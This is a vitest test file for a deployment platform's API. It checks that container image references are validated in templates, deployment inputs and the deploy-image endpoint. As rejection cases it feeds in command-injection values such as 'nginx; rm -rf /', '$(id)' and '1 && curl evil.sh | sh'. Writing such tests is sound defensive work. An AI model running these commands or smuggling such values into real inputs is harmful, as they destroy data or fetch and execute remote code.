import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestPlatform, type TestPlatform } from '../../../test/harness';
import { buildOrg, type Actor, type Tenant } from '../../../test/authz/factories';

/** Issue 19 class 7: image references are checked in templates, the deploy-image body and after rendering. */
const templateWith = (name: string, image: string) => `name: ${name}
displayName: ${name}
visibility: team
envVars:
  - name: TAG
    default: "1.27"
services:
  - name: web
    image: ${JSON.stringify(image)}
    ports:
      - containerPort: 80
        expose: true
`;

describe('image references', () => {
  let t: TestPlatform;
  let org: Tenant;
  const call = (actor: Actor, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: actor.headers, ...(payload ? { payload } : {}) });
  beforeAll(async () => {
    t = await startTestPlatform({ db: 'pglite' });
    org = await buildOrg(t, { tier: 'business' });
  });
  afterAll(async () => t?.close());

  const addTemplate = (name: string, image: string) =>
    call(org.as.team_admin, 'POST', '/api/templates', {
      yaml: templateWith(name, image),
      teamId: org.team.id,
    });

  it.each(
    [
      'nginx; rm -rf /',
      'nginx:1.27\nmalicious: true',
      'nginx $(id)',
      'Nginx:1.27',
      'nginx:${TAG} extra',
      'x'.repeat(10_000),
    ].map((image) => [image.length > 40 ? `${image.length} characters` : JSON.stringify(image), image]),
  )('refuses a template whose image is %s with 400 at services[0].image', async (_label, image) => {
    const res = await addTemplate('bad-image', image);
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.json().errors.map((e: { path: string }) => e.path)).toContain('services[0].image');
  });

  it('accepts placeholders, refuses a variable that renders a bad reference, and checks deploy-image', async () => {
    const tpl = await addTemplate('tagged', 'ghcr.io/owner/app:${TAG}');
    expect(tpl.statusCode).toBe(201);
    const templateId = tpl.json().id;
    const deploy = (name: string, inputs: Record<string, string>) =>
      call(org.as.developer, 'POST', '/api/deployments', { teamId: org.team.id, templateId, name, inputs });

    const bad = await deploy('bad-tag', { TAG: '1 && curl evil.sh | sh' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().detail).toContain('image of service web');
    const listed = await call(org.as.developer, 'GET', `/api/deployments?teamId=${org.team.id}`);
    expect(listed.json().items.map((d: { name: string }) => d.name)).not.toContain('bad-tag');

    const good = await deploy('good-tag', { TAG: 'v2.1' });
    expect(good.statusCode).toBe(201);
    const d = good.json();
    expect(d.services[0].image).toBe('ghcr.io/owner/app:v2.1');
    const patched = await call(org.as.developer, 'PATCH', `/api/deployments/${d.id}`, {
      inputs: { TAG: 'v3\nrm' },
    });
    expect(patched.statusCode).toBe(400);

    for (const image of ['nginx latest', 'nginx:1\n', 'nginx`id`', 'a:b:c', 'x'.repeat(10_000)]) {
      const res = await call(org.as.developer, 'POST', `/api/deployments/${d.id}/deploy-image`, {
        service: 'web',
        image,
      });
      expect(res.statusCode, image.slice(0, 20)).toBe(400);
      expect(res.headers['content-type']).toContain('application/problem+json');
    }
    const after = (await call(org.as.developer, 'GET', `/api/deployments/${d.id}`)).json();
    expect(after).toMatchObject({
      generation: d.generation,
      services: [{ image: 'ghcr.io/owner/app:v2.1' }],
    });
    const ok = await call(org.as.developer, 'POST', `/api/deployments/${d.id}/deploy-image`, {
      service: 'web',
      image: 'ghcr.io/owner/app:v4@sha256:' + 'b'.repeat(64),
    });
    expect(ok.statusCode).toBe(200);
  });
});
